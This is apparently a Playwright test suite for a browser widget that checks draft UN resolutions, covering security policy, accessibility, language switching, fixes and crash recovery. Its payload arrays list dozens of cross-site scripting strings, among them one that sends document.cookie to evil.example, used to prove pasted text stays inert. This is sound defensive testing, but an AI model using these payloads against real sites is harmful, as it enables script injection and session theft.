// The page, the widget and the offline file in headless Debian chromium (playwright-core, no
// browser download). Screenshots go to test-output/.
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { ROOT, DIST, OUTPUT, read, launchBrowser } from './helpers.mjs';
import { startServer } from '../scripts/server.mjs';

const SEED_ZH = read('tests/fixtures/zh/seed.txt');
const SEED_EN = read('tests/fixtures/en/seed_draft.txt');
const DEFECTIVE = read('www/examples/defective.txt');
const PAYLOADS = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(2)</script>',
  '<svg onload=alert(3)><circle r=1></svg>',
  '<iframe srcdoc="<script>parent.alert(4)</script>"></iframe>',
  '<a href="javascript:alert(5)">click</a>',
  '"><b onmouseover=alert(6)>bold</b>',
];
/** The full battery: HTML, attribute, URL, template, CSS and markup-breaking injections. */
const BATTERY = [
  ...PAYLOADS,
  '<body onload=alert(7)>',
  '<details open ontoggle=alert(8)>',
  '<video><source onerror=alert(9)></video>',
  '<audio src=x onerror=alert(10)>',
  '<object data="javascript:alert(11)"></object>',
  '<embed src="javascript:alert(12)">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(13)>',
  '<input autofocus onfocus=alert(14)>',
  '<marquee onstart=alert(15)>UN</marquee>',
  '<form action="javascript:alert(16)"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(17)">',
  '<link rel=stylesheet href="http://evil.example/x.css">',
  '<base href="http://evil.example/">',
  '<style>@import "http://evil.example/y.css"; body{background:url(http://evil.example/z)}</style>',
  '<img src="http://evil.example/pixel.gif">',
  '<script src="http://evil.example/a.js"></script>',
  "<img src=x onerror=\"fetch('http://evil.example/leak?'+document.cookie)\">",
  '</textarea><script>alert(18)</script>',
  '</script><script>alert(19)</script>',
  '<!--<img src="--><img src=x onerror=alert(20)//">',
  '<![CDATA[<img src=x onerror=alert(21)>]]>',
  '${alert(22)}',
  '{{constructor.constructor("alert(23)")()}}',
  '<noscript><p title="</noscript><img src=x onerror=alert(24)>">',
  '<svg><animate onbegin=alert(25) attributeName=x dur=1s>',
  '<x contenteditable onblur=alert(26)>lose focus</x>',
  '<div style="background:url(javascript:alert(27))">',
  '&lt;img src=x onerror=alert(28)&gt;',
  '\u003cimg src=x onerror=alert(29)\u003e',
  '<scr<script>ipt>alert(30)</scr</script>ipt>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgzMSk8L3NjcmlwdD4=">x</a>',
  '<template><img src=x onerror=alert(32)></template>',
  '<slot name=x onclick=alert(33)>',
  '<resolint-checker value="<img src=x onerror=alert(34)>"></resolint-checker>',
  "javascript:alert(35)//",
  '<img src=x onerror=alert(36)>\u202E\u200B\0',
];
/** Tags no payload may add, counted in the document and in every shadow root. */
const DANGEROUS = 'img, script, iframe, svg, object, embed, video, audio, source, math, input, marquee, form, meta, link, base, style, details, template, noscript, x, slot, resolint-checker, a[href^="javascript"], a[href^="data"]';

let browser;
let server;
let base;
before(async () => {
  fs.mkdirSync(OUTPUT, { recursive: true });
  server = await startServer({ root: DIST, port: 0 });
  base = `http://127.0.0.1:${server.address().port}`;
  browser = await launchBrowser();
});
after(async () => {
  await browser?.close();
  server?.close();
});

/**
 * A fresh page where every request that is not to our own server or the file itself is blocked
 * and counted, console errors and CSP violations are collected, and dialogs are recorded.
 */
async function open(url, { colorScheme = 'light', locale = 'en-US', allow = [], setup = null } = {}) {
  const context = await browser.newContext({ viewport: { width: 1360, height: 900 }, colorScheme, locale, acceptDownloads: true });
  const page = await context.newPage();
  const log = { external: [], requests: [], errors: [], dialogs: [], csp: [] };
  const own = (u) => u === url.split('#')[0] || allow.some((a) => u.startsWith(a)) || u.startsWith('data:') || u.startsWith('blob:');
  await context.route('**/*', (route) => {
    const u = route.request().url();
    if (own(u)) return route.continue();
    log.external.push(u);
    return route.abort('blockedbyclient');
  });
  page.on('request', (r) => {
    log.requests.push(r.url());
    if (!own(r.url())) log.external.push(r.url());
  });
  page.on('console', (m) => {
    if (m.type() === 'error') log.errors.push(m.text());
    if (/Content.Security.Policy/i.test(m.text())) log.csp.push(m.text());
  });
  page.on('pageerror', (e) => log.errors.push(String(e)));
  page.on('dialog', (d) => {
    log.dialogs.push(d.message());
    d.dismiss().catch(() => {});
  });
  if (setup) await setup(context);
  await page.goto(url);
  await page.waitForFunction(() => customElements.get('resolint-checker'));
  return { context, page, log };
}

const checker = (page, sel = 'resolint-checker') => page.locator(sel).first();

/** Waits until the editor holds exactly `text`, checks it now and returns the report. */
async function reportFor(page, text, sel = 'resolint-checker') {
  await page.waitForFunction(([s, t]) => document.querySelector(s)?.value === t, [sel, text], { timeout: 10000 }).catch(() => {});
  return page.evaluate(([s, t]) => {
    const c = document.querySelector(s);
    if (c.value !== t) throw new Error(`editor text differs: ${JSON.stringify(c.value.slice(-60))} vs ${JSON.stringify(t.slice(-60))}`);
    return c.check();
  }, [sel, text]);
}

async function highlightSizes(page) {
  return page.evaluate(() => Object.fromEntries([...CSS.highlights.keys()].filter((k) => k.startsWith('resolint-')).map((k) => [k.replace(/^resolint-\d+-/, ''), CSS.highlights.get(k).size])));
}

/** Focuses the editor, selects everything, and types `text` through the keyboard (insertText). */
async function typeInto(page, text, sel = 'resolint-checker') {
  const editor = page.locator(`${sel} [part~="editor"]`);
  await editor.click();
  await page.keyboard.press('Control+A');
  await page.keyboard.press('Delete');
  await page.keyboard.insertText(text);
}

/** A paste event as a browser fires it, with both text/html and text/plain on the clipboard. */
async function pasteHtml(page, html, plain, sel = 'resolint-checker') {
  await page.locator(`${sel} [part~="editor"]`).click();
  await page.evaluate(([s, h, p]) => {
    const ed = document.querySelector(s).shadowRoot.querySelector('[part~="editor"]');
    const dt = new DataTransfer();
    dt.setData('text/html', h);
    dt.setData('text/plain', p);
    ed.dispatchEvent(new ClipboardEvent('paste', { clipboardData: dt, bubbles: true, cancelable: true, composed: true }));
  }, [sel, html, plain]);
}

async function shot(page, name, opts = {}) {
  await page.screenshot({ path: path.join(OUTPUT, name), ...opts });
}

async function axe(page, label) {
  const src = fs.readFileSync(path.join(ROOT, 'node_modules', 'axe-core', 'axe.min.js'), 'utf8');
  await page.evaluate(src); // through the driver: the pages' CSP rightly refuses injected script tags
  const res = await page.evaluate(() => globalThis.axe.run(document, { resultTypes: ['violations'] }));
  const bad = res.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical');
  assert.deepEqual(
    bad.map((v) => `${v.id} (${v.impact}): ${v.help} — ${v.nodes.slice(0, 3).map((n) => n.target.join(' ')).join(' | ')}`),
    [],
    `${label}: axe-core found serious or critical violations`,
  );
}

describe('index.html served from 127.0.0.1', () => {
  let ctx;
  before(async () => {
    ctx = await open(`${base}/index.html`, { allow: [base] });
  });
  after(() => ctx.context.close());

  it('loads the seed draft at start, with a strict CSP and no request beyond the page itself', async () => {
    const { page, log } = ctx;
    const r = await page.evaluate(() => customElements.whenDefined('resolint-checker').then(() => document.querySelector('resolint-checker').check()));
    assert.equal(await checker(page).evaluate((c) => c.value), SEED_ZH.replace(/\r\n?/g, '\n'));
    assert.equal(r.language, 'zh');
    const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
    assert.match(csp, /default-src 'none'/);
    assert.doesNotMatch(csp, /'unsafe-inline'|'unsafe-eval'|\*/);
    assert.deepEqual(log.external, []);
    assert.deepEqual(log.requests.filter((u) => u !== `${base}/index.html`), [], 'one file: no other request');
    assert.deepEqual(log.csp, []);
    assert.deepEqual(log.errors, []);
    await shot(page, 'index-seed-zh.png');
  });

  it('pasting a draft with the keyboard underlines findings and lists them by category', async () => {
    const { page, context } = ctx;
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: base });
    await page.locator('resolint-checker [part~="editor"]').click();
    await page.keyboard.press('Control+A');
    await page.evaluate((t) => navigator.clipboard.writeText(t), DEFECTIVE);
    await page.keyboard.press('Control+V');
    await page.waitForFunction((t) => document.querySelector('resolint-checker').value === t, DEFECTIVE);
    const r = await reportFor(page, DEFECTIVE);
    assert.ok(r.diagnostics.length >= 3);
    await page.waitForTimeout(50);
    const sizes = await highlightSizes(page);
    const bySeverity = { error: 0, warning: 0, info: 0 };
    for (const d of r.diagnostics) bySeverity[d.severity]++;
    for (const k of ['error', 'warning', 'info']) assert.equal(sizes[k] ?? 0, bySeverity[k], `${k} highlights`);
    const items = page.locator('resolint-checker [part~="finding"]');
    assert.equal(await items.count(), r.diagnostics.length);
    const first = items.first();
    for (const a of ['data-rule', 'data-category', 'data-severity']) assert.ok(await first.getAttribute(a), a);
    const groups = await page.locator('resolint-checker .group').evaluateAll((gs) => gs.map((g) => [g.dataset.category, g.querySelectorAll('li').length, g.querySelector('h3 .n').textContent]));
    for (const [cat, n, label] of groups) {
      assert.equal(String(n), label);
      assert.equal(n, r.diagnostics.filter((d) => d.category === cat).length, cat);
    }
    const live = await page.locator('resolint-checker [aria-live]').textContent();
    assert.match(live, new RegExp(`${bySeverity.error} error`));
    await shot(page, 'index-defective.png');
  });

  it('clicking a finding selects its words in the editor and shows its message', async () => {
    const { page } = ctx;
    const r = await checker(page).evaluate((c) => c.report);
    const i = Math.min(2, r.diagnostics.length - 1);
    const d = r.diagnostics[i];
    await page.locator('resolint-checker [part~="finding"]').nth(i).locator('.go').click();
    const sel = await checker(page).evaluate((c) => c.selection);
    assert.deepEqual([sel.start, sel.end], [d.start, d.end]);
    assert.equal(sel.text, DEFECTIVE.slice(d.start, d.end));
    const native = await checker(page).evaluate((c) => (c.shadowRoot.getSelection ? c.shadowRoot.getSelection().toString() : null));
    if (native !== null) assert.equal(native, DEFECTIVE.slice(d.start, d.end));
    const tip = page.locator('resolint-checker [part~="tooltip"]');
    assert.ok(await tip.isVisible());
    assert.ok((await tip.textContent()).includes(d.message));
  });

  it('hovering an underline shows the message and its fix button', async () => {
    const { page } = ctx;
    await page.mouse.move(5, 5);
    await page.waitForTimeout(450);
    const r = await checker(page).evaluate((c) => c.report);
    const i = r.diagnostics.findIndex((d) => d.fix && d.end > d.start);
    assert.ok(i >= 0, 'a fixable finding');
    const box = await checker(page).evaluate((c, i) => {
      const d = c.report.diagnostics[i];
      const ed = c.shadowRoot.querySelector('[part~="editor"]');
      const range = document.createRange();
      range.setStart(ed.firstChild, d.start);
      range.setEnd(ed.firstChild, d.end);
      range.startContainer.parentElement.scrollTop = 0;
      const rect = range.getClientRects()[0];
      return { x: rect.left + rect.width / 2, y: rect.top + rect.height / 2 };
    }, i);
    await page.mouse.move(box.x, box.y);
    const tip = page.locator('resolint-checker [part~="tooltip"]');
    await tip.waitFor({ state: 'visible' });
    assert.ok((await tip.textContent()).includes(r.diagnostics[i].message));
    assert.ok(await tip.locator('[part~="fix"]').isVisible());
    await shot(page, 'index-tooltip.png');
  });

  it('a fix button applies the fix, and "apply all fixes" the rest', async () => {
    const { page } = ctx;
    const r = await checker(page).evaluate((c) => c.report);
    const i = r.diagnostics.findIndex((d) => d.fix);
    const d = r.diagnostics[i];
    const expected = DEFECTIVE.slice(0, d.fix.start) + d.fix.replacement + DEFECTIVE.slice(d.fix.end);
    await page.locator('resolint-checker [part~="finding"]').nth(i).locator('[part~="fix"]').click();
    await page.waitForFunction((t) => document.querySelector('resolint-checker').value === t, expected);
    const r2 = await reportFor(page, expected);
    assert.ok(!r2.diagnostics.some((x) => x.rule === d.rule && x.line === d.line && x.fix && x.fix.replacement === d.fix.replacement), 'that finding is gone');
    // Undo restores the text and redo re-applies the fix.
    await page.keyboard.press('Control+Z');
    await page.waitForFunction((t) => document.querySelector('resolint-checker').value === t, DEFECTIVE, { timeout: 5000 });
    await page.keyboard.press('Control+Y');
    await page.waitForFunction((t) => document.querySelector('resolint-checker').value === t, expected, { timeout: 5000 });
    await page.keyboard.press('Control+Z');
    await page.waitForFunction((t) => document.querySelector('resolint-checker').value === t, DEFECTIVE, { timeout: 5000 });
    const fixable = (await reportFor(page, await checker(page).evaluate((c) => c.value))).diagnostics.filter((x) => x.fix).length;
    assert.ok(fixable > 0);
    await page.locator('resolint-checker [part~="apply-all"]').click();
    await page.waitForFunction((n) => {
      const c = document.querySelector('resolint-checker');
      return c.report && c.report.diagnostics.filter((x) => x.fix).length < n;
    }, fixable);
  });

  it('F8 moves to the next finding from the keyboard; the findings are buttons reachable with Tab', async () => {
    const { page } = ctx;
    await checker(page).evaluate((c) => { c.value = ''; });
    await typeInto(page, DEFECTIVE);
    const r = await reportFor(page, DEFECTIVE);
    await page.keyboard.press('Control+Home');
    await page.keyboard.press('F8');
    const sel = await checker(page).evaluate((c) => c.selection);
    const first = r.diagnostics.find((d) => d.start > 0) || r.diagnostics[0];
    assert.equal(sel.start, first.start);
    let reached = false;
    for (let k = 0; k < 12 && !reached; k++) {
      await page.keyboard.press('Tab');
      reached = await checker(page).evaluate((c) => !!c.shadowRoot.activeElement?.closest('[part~="finding"]'));
    }
    assert.ok(reached, 'a finding is reachable with Tab');
    await page.keyboard.press('Enter');
    assert.ok(await checker(page).evaluate((c) => c.selection && c.selection.end > c.selection.start));
  });

  it('"ignore" hides a finding per rule and paragraph, remembered without the text', async () => {
    const { page } = ctx;
    const before = (await reportFor(page, DEFECTIVE)).diagnostics.length;
    const item = page.locator('resolint-checker [part~="finding"]').first();
    const rule = await item.getAttribute('data-rule');
    await item.locator('[part~="ignore"]').click();
    assert.equal(await page.locator('resolint-checker [part~="finding"]').count(), before - 1);
    const stored = await page.evaluate(() => localStorage.getItem('resolint:ignored:v1'));
    assert.ok(stored.includes(rule));
    for (const word of DEFECTIVE.split(/\s+/).filter((w) => w.length > 4)) assert.ok(!stored.includes(word), `the text is not stored (${word})`);
    await page.reload();
    await page.waitForFunction(() => customElements.get('resolint-checker'));
    await checker(page).evaluate((c, t) => { c.value = t; }, DEFECTIVE);
    await reportFor(page, DEFECTIVE);
    assert.equal(await page.locator('resolint-checker [part~="finding"]').count(), before - 1, 'still ignored after a reload');
    await checker(page).evaluate((c) => c.clearIgnored());
    assert.equal(await page.locator('resolint-checker [part~="finding"]').count(), before);
  });

  it('pasted HTML stays inert text: no element, no script, no dialog', async () => {
    const { page, log } = ctx;
    for (const p of PAYLOADS) {
      await typeInto(page, '');
      await pasteHtml(page, p, p);
      await page.waitForFunction((t) => document.querySelector('resolint-checker').value === t, p);
      await typeInto(page, '');
      await page.keyboard.insertText(p);
      await page.waitForFunction((t) => document.querySelector('resolint-checker').value === t, p);
      const elements = await checker(page).evaluate((c) => c.shadowRoot.querySelector('[part~="editor"]').querySelectorAll('*').length);
      assert.ok(elements <= 1, `no element from ${p}`);
    }
    // Rich HTML whose plain text differs: only the plain text goes in.
    await typeInto(page, '');
    await pasteHtml(page, '<p>The <b>General</b> Assembly,</p><img src=x onerror=alert(7)>', 'The General Assembly,');
    await page.waitForFunction(() => document.querySelector('resolint-checker').value === 'The General Assembly,');
    await checker(page).evaluate((c, t) => { c.value = t; }, PAYLOADS.join('\n'));
    await reportFor(page, PAYLOADS.join('\n'));
    await page.waitForTimeout(300);
    assert.deepEqual(log.dialogs, []);
    assert.equal(await page.evaluate(() => document.querySelectorAll('img[src="x"], svg circle, iframe[srcdoc]').length), 0);
    assert.equal(await checker(page).evaluate((c) => c.shadowRoot.querySelectorAll('img, script, iframe, svg').length), 0);
    assert.deepEqual(log.external, []);
  });

  it('switches the interface and the messages to Chinese', async () => {
    const { page } = ctx;
    await checker(page).evaluate((c, t) => { c.value = t; }, DEFECTIVE);
    await page.selectOption('#ui-lang', 'zh');
    const r = await reportFor(page, DEFECTIVE);
    assert.equal(await page.evaluate(() => document.documentElement.lang), 'zh-Hans');
    assert.equal(await checker(page).getAttribute('ui-lang'), 'zh');
    assert.equal(await page.locator('resolint-checker .findings h2').textContent(), '检查结果');
    assert.match(await page.locator('#privacy').textContent(), /不会离开这台计算机/);
    assert.ok(r.diagnostics.some((d) => /[\u4e00-\u9fff]/.test(d.message)), 'messages in Chinese');
    assert.ok((await page.locator('resolint-checker [part~="finding"]').first().textContent()).match(/[\u4e00-\u9fff]/));
    await shot(page, 'index-zh.png');
    await axe(page, 'index.html in Chinese');
    await page.selectOption('#ui-lang', 'en');
  });

  it('the language, body and session controls reach the checker; a bad session is reported, not thrown', async () => {
    const { page } = ctx;
    await page.selectOption('#body', 'sc');
    await page.fill('#session', '70');
    const r = await reportFor(page, DEFECTIVE);
    assert.equal(r.body, 'sc');
    assert.equal(r.session, 70);
    await page.selectOption('#lang', 'zh');
    assert.equal((await reportFor(page, DEFECTIVE)).language, 'zh');
    await page.selectOption('#lang', 'auto');
    await page.selectOption('#body', 'auto');
    await checker(page).evaluate((c) => c.setAttribute('session', '-3'));
    await checker(page).evaluate((c) => c.check().catch(() => {}));
    const err = page.locator('resolint-checker [role="alert"]');
    assert.ok(await err.isVisible());
    assert.match(await err.textContent(), /session/);
    await page.fill('#session', '');
    await reportFor(page, DEFECTIVE);
    assert.ok(!(await err.isVisible()));
  });

  it('exports the findings as JSON and builds a printable report', async () => {
    const { page } = ctx;
    const r = await reportFor(page, DEFECTIVE);
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export-json')]);
    const file = path.join(OUTPUT, 'exported-findings.json');
    await download.saveAs(file);
    assert.deepEqual(JSON.parse(fs.readFileSync(file, 'utf8')), r);
    await page.evaluate(() => { window.print = () => { window.__printed = true; }; });
    await page.click('#print');
    assert.ok(await page.evaluate(() => window.__printed));
    assert.equal(await page.locator('#print-report tr').count(), r.diagnostics.length + 1);
    await page.emulateMedia({ media: 'print' });
    await shot(page, 'index-print.png', { fullPage: true });
    await page.emulateMedia({ media: 'screen' });
  });

  it('checks a large draft in a Web Worker with a visible "checking…" state', async () => {
    const { page } = ctx;
    const big = (DEFECTIVE + '\n').repeat(Math.ceil(60000 / DEFECTIVE.length));
    await page.evaluate((t) => {
      const c = document.querySelector('resolint-checker');
      window.__busySeen = false;
      new MutationObserver(() => { if (c.hasAttribute('busy')) window.__busySeen = c.shadowRoot.querySelector('[part~="state"]').textContent; }).observe(c, { attributes: true });
      c.value = t;
    }, big);
    await page.waitForFunction((n) => {
      const c = document.querySelector('resolint-checker');
      return c.lastCheck && c.lastCheck.length === n && !c.hasAttribute('busy');
    }, big.length, { timeout: 30000 });
    const info = await checker(page).evaluate((c) => ({ last: c.lastCheck, n: c.report.diagnostics.length }));
    assert.equal(info.last.worker, true, 'checked in the worker');
    assert.match(await page.evaluate(() => window.__busySeen), /Checking/);
    // Typing stays possible meanwhile, and the result matches the main thread's.
    const main = await page.evaluate(async (t) => {
      const core = globalThis.__RESOLINT_INLINE__.makeCore();
      core.initSync({ module: globalThis.__RESOLINT_INLINE__.module() });
      return core.validate(t, { uiLang: 'en' }).diagnostics.length;
    }, big);
    assert.equal(info.n, main);
    // Long lists are cut per category, with a button to show them all; every finding stays underlined.
    const sizes = await highlightSizes(page);
    assert.equal((sizes.error ?? 0) + (sizes.warning ?? 0) + (sizes.info ?? 0), info.n);
    const more = page.locator('resolint-checker [part~="show-all"]').first();
    assert.ok(await more.isVisible(), 'a "show all" button');
    const cat = await more.evaluate((b) => b.closest('.group').dataset.category);
    const group = page.locator(`resolint-checker .group[data-category="${cat}"]`);
    const total = Number(await group.locator('h3 .n').textContent());
    assert.ok(total > 50);
    assert.equal(await group.locator('li').count(), 50);
    await more.click();
    assert.equal(await group.locator('li').count(), total);
    assert.deepEqual(ctx.log.errors, []);
  });

  it('has no serious or critical accessibility violations (axe-core), light and dark', async () => {
    const { page } = ctx;
    await checker(page).evaluate((c, t) => { c.value = t; }, DEFECTIVE);
    await reportFor(page, DEFECTIVE);
    await axe(page, 'index.html');
    const dark = await open(`${base}/index.html`, { allow: [base], colorScheme: 'dark' });
    await dark.page.selectOption('#example', 'defective');
    await dark.page.click('#load');
    await reportFor(dark.page, DEFECTIVE);
    await shot(dark.page, 'index-dark.png');
    await axe(dark.page, 'index.html, dark');
    await dark.context.close();
  });
});

describe('resolint.html opened from file:// with the network blocked', () => {
  let ctx;
  const url = pathToFileURL(path.join(DIST, 'resolint.html')).href;
  before(async () => {
    ctx = await open(url, { locale: 'zh-CN' });
  });
  after(() => ctx.context.close());

  it('is one file that works with zero network requests', async () => {
    const { page, log } = ctx;
    await typeInto(page, SEED_EN);
    const r = await reportFor(page, SEED_EN);
    assert.equal(r.language, 'en');
    await page.selectOption('#example', 'defective');
    await page.click('#load');
    const r2 = await reportFor(page, DEFECTIVE);
    assert.ok(r2.diagnostics.length > 0);
    assert.ok(Object.values(await highlightSizes(page)).reduce((a, b) => a + b, 0) > 0, 'underlines');
    const d = r2.diagnostics.find((x) => x.fix);
    await page.locator('resolint-checker [part~="finding"]').nth(r2.diagnostics.indexOf(d)).locator('[part~="fix"]').click();
    await page.waitForFunction((t) => document.querySelector('resolint-checker').value !== t, DEFECTIVE);
    // The worker (from a blob: URL) works here too.
    const big = (DEFECTIVE + '\n').repeat(Math.ceil(30000 / DEFECTIVE.length));
    await checker(page).evaluate((c, t) => { c.value = t; }, big);
    await page.waitForFunction((n) => document.querySelector('resolint-checker').lastCheck?.length === n, big.length, { timeout: 30000 });
    assert.equal(await checker(page).evaluate((c) => c.lastCheck.worker), true);
    assert.deepEqual(log.external, [], 'no request beyond the file');
    assert.deepEqual(log.requests.filter((u) => u !== url), []);
    assert.deepEqual(log.errors, []);
    assert.deepEqual(log.csp, []);
  });

  it('offsets hold in the editor on Arabic and emoji text: a clicked finding selects its words', async () => {
    const { page } = ctx;
    const text = DEFECTIVE.replace('its resolution', '😀👩‍👩‍👧 مرحبا بالعالم 联合国 its resolution') + '\nمشروع قرار: الجمعية العامة 🇺🇳\n';
    await checker(page).evaluate((c, t) => { c.value = t; }, text);
    const r = await reportFor(page, text);
    assert.ok(r.diagnostics.length > 0);
    for (const i of [0, Math.floor(r.diagnostics.length / 2), r.diagnostics.length - 1]) {
      const d = r.diagnostics[i];
      const li = page.locator(`resolint-checker [part~="finding"][data-start="${d.start}"][data-rule="${d.rule}"]`).first();
      await li.locator('.go').click();
      const sel = await checker(page).evaluate((c) => c.selection);
      assert.deepEqual([sel.start, sel.end, sel.text], [d.start, d.end, text.slice(d.start, d.end)]);
    }
    await shot(page, 'resolint-file-arabic-emoji.png');
  });

  it('defaults to a Chinese interface for a Chinese browser', async () => {
    const { page } = ctx;
    assert.equal(await page.inputValue('#ui-lang'), 'zh');
    await page.selectOption('#example', 'seed-zh');
    await page.click('#load');
    const r = await reportFor(page, SEED_ZH.replace(/\r\n?/g, '\n'));
    await shot(page, 'resolint-file-zh.png');
    // Clicking the last finding scrolls the editor to it.
    assert.ok(r.diagnostics.length > 0);
    const last = page.locator('resolint-checker [part~="finding"]').last();
    await last.locator('.go').click();
    const seen = await checker(page).evaluate((c) => {
      const sel = c.selection;
      const ed = c.shadowRoot.querySelector('[part~="editor"]');
      const range = document.createRange();
      range.setStart(ed.firstChild, sel.start);
      range.setEnd(ed.firstChild, sel.end);
      const a = range.getBoundingClientRect();
      const b = ed.getBoundingClientRect();
      return { inside: a.top >= b.top - 1 && a.bottom <= b.bottom + 1, text: sel.text };
    });
    assert.ok(seen.inside, 'the selected finding is scrolled into view');
    assert.ok(seen.text.length > 0);
  });
});

describe('embed.html: the widget inside a portal page', () => {
  let ctx;
  before(async () => {
    ctx = await open(`${base}/embed.html`, { allow: [base] });
  });
  after(() => ctx.context.close());

  it('runs from resolint.js with the .wasm as a separate file under a CSP without inline code', async () => {
    const { page, log } = ctx;
    const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
    assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'/);
    assert.equal(await page.locator('script:not([src])').count(), 0, 'no inline script');
    await typeInto(page, DEFECTIVE, '#portal-checker');
    const r = await reportFor(page, DEFECTIVE, '#portal-checker');
    assert.ok(r.diagnostics.length > 0);
    await page.waitForFunction(() => /error/.test(document.getElementById('badge').textContent));
    assert.ok(log.requests.some((u) => u.endsWith('/resolint_core_bg.wasm')));
    assert.deepEqual(log.external, []);
    assert.deepEqual(log.errors, []);
    assert.deepEqual(log.csp, []);
    await shot(page, 'embed.png');
  });

  it('the resolint-report event bubbles out of the shadow root, and report is read-only', async () => {
    const { page } = ctx;
    const detail = await page.evaluate(() => new Promise((resolve) => {
      document.addEventListener('resolint-report', (e) => resolve({ n: e.detail.diagnostics.length, target: e.target.id, composed: e.composed, bubbles: e.bubbles }), { once: true });
      document.getElementById('portal-checker').value = 'The General Assembly,\n\n1. request the Secretary-General to report.\n';
    }));
    assert.equal(detail.target, 'portal-checker');
    assert.ok(detail.composed && detail.bubbles);
    const ro = await page.evaluate(() => {
      const c = document.getElementById('portal-checker');
      const before = c.report;
      try { c.report = null; } catch { /* strict mode setter-less property */ }
      return c.report === before && before !== null;
    });
    assert.ok(ro);
  });

  it("the portal's styles stay out, its theme goes in through custom properties and ::part()", async () => {
    const { page } = ctx;
    const s = await checker(page, '#portal-checker').evaluate((c) => {
      const b = c.shadowRoot.querySelector('button');
      const ed = c.shadowRoot.querySelector('[part~="editor"]');
      const li = c.shadowRoot.querySelector('li');
      return {
        transform: getComputedStyle(b).textTransform,
        bg: getComputedStyle(b).backgroundColor,
        li: li ? getComputedStyle(li).fontWeight : '400',
        minHeight: getComputedStyle(ed).minHeight,
        accent: getComputedStyle(c).getPropertyValue('--resolint-accent').trim(),
      };
    });
    assert.equal(s.transform, 'none');
    assert.notEqual(s.bg, 'rgb(107, 44, 145)');
    assert.equal(s.minHeight, '288px');
    assert.equal(s.accent, '#005a9e');
    // …and the widget's styles stay in: the portal's own button keeps its look.
    assert.equal(await page.locator('.portal-button').evaluate((b) => getComputedStyle(b).textTransform), 'uppercase');
  });

  it('a second widget takes its text from its content, honours disable, and keeps its own underlines', async () => {
    const { page } = ctx;
    const res = await page.evaluate(async () => {
      const el = document.createElement('resolint-checker');
      el.id = 'second';
      el.textContent = 'General Assembly\n\nRecalling its resolution 59/50;\n\n1. request the Secretary-General to report.';
      document.querySelector('.portal-main').append(el);
      const r1 = await el.check();
      const rule = r1.diagnostics[0].rule;
      el.setAttribute('disable', rule);
      const r2 = await el.check();
      const names = [...CSS.highlights.keys()];
      return { value: el.value, n1: r1.diagnostics.length, rule, gone: !r2.diagnostics.some((d) => d.rule === rule), names };
    });
    assert.match(res.value, /^General Assembly\n/);
    assert.ok(res.n1 > 0);
    assert.ok(res.gone, `disable="${res.rule}"`);
    assert.ok(res.names.some((n) => n.startsWith('resolint-2-')) && res.names.some((n) => n.startsWith('resolint-1-')), 'one set of highlights per widget');
    await page.evaluate(() => document.getElementById('second').remove());
    assert.ok(!(await page.evaluate(() => [...CSS.highlights.keys()].some((n) => n.startsWith('resolint-2-')))), 'highlights removed with the widget');
  });

  it('attributes drive the check: ui-lang, lang, body, session', async () => {
    const { page } = ctx;
    await checker(page, '#portal-checker').evaluate((c, t) => {
      c.value = t;
      c.setAttribute('ui-lang', 'zh');
      c.setAttribute('body', 'hrc');
      c.setAttribute('session', '64');
    }, DEFECTIVE);
    const r = await reportFor(page, DEFECTIVE, '#portal-checker');
    assert.equal(r.body, 'hrc');
    assert.equal(r.session, 64);
    assert.equal(await page.locator('#portal-checker .findings h2').textContent(), '检查结果');
    await checker(page, '#portal-checker').evaluate((c) => c.setAttribute('ui-lang', 'en'));
    await axe(page, 'embed.html');
  });
});

describe('recovery after a panic in the wasm module', () => {
  it('the widget reports it, starts a fresh instance and checks again', async () => {
    // The glue is served with a validate() that fails like a Rust panic (RuntimeError: unreachable)
    // on one text; the fresh copy the widget then imports (?instance=1) is the real one.
    const ctx = await open(`${base}/embed.html`, {
      allow: [base],
      setup: (context) => context.route(`${base}/resolint_core.js`, async (route) => {
        const res = await route.fetch();
        const body = (await res.text()).replace(
          'export function validate(text, options) {',
          "export function validate(text, options) {\n    if (String(text).includes('PANIC_TEST')) throw new WebAssembly.RuntimeError('unreachable');",
        );
        assert.ok(body.includes('PANIC_TEST'), 'patched the glue');
        await route.fulfill({ response: res, body });
      }),
    });
    const { page, log } = ctx;
    await reportFor(page, '', '#portal-checker');
    await checker(page, '#portal-checker').evaluate((c) => { c.value = 'The General Assembly,\n\nPANIC_TEST'; });
    const err = page.locator('#portal-checker [role="alert"]');
    await err.waitFor({ state: 'visible' });
    // The user is told, in words, in the widget's alert line (announced by screen readers).
    assert.equal(await err.textContent(), 'The checker stopped on this text and was restarted.');
    await shot(page, 'embed-panic-recovered.png');
    await checker(page, '#portal-checker').evaluate((c, t) => { c.value = t; }, DEFECTIVE);
    const r = await reportFor(page, DEFECTIVE, '#portal-checker');
    assert.ok(r.diagnostics.length > 0, 'checks again');
    assert.ok(!(await err.isVisible()), 'the error is cleared');
    assert.ok(log.requests.some((u) => u.endsWith('/resolint_core.js?instance=1')), 'a fresh instance was loaded');
    await ctx.context.close();
  });
});

describe('robustness and privacy', () => {
  it('every built page carries a strict CSP: no unsafe-inline, no unsafe-eval, nothing remote', () => {
    const pages = fs.readdirSync(DIST).filter((f) => f.endsWith('.html'));
    assert.ok(pages.length >= 3, pages.join());
    for (const f of pages) {
      const html = fs.readFileSync(path.join(DIST, f), 'utf8');
      const m = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)">/);
      assert.ok(m, `${f} has a CSP`);
      const csp = m[1];
      assert.match(csp, /default-src 'none'/, f);
      assert.match(csp, /script-src [^;]*('sha256-|'self')/, f);
      assert.doesNotMatch(csp, /'unsafe-inline'|'unsafe-eval'|https?:|\*/, f);
      // Every inline script the page executes is allowed by hash, not by a blanket rule.
      const inline = [...html.matchAll(/<script(?![^>]*\bsrc=)(?![^>]*type="application\/(?:json|octet-stream)")[^>]*>/g)];
      if (inline.length) assert.match(csp, /'sha256-/, `${f}: inline scripts need hashes`);
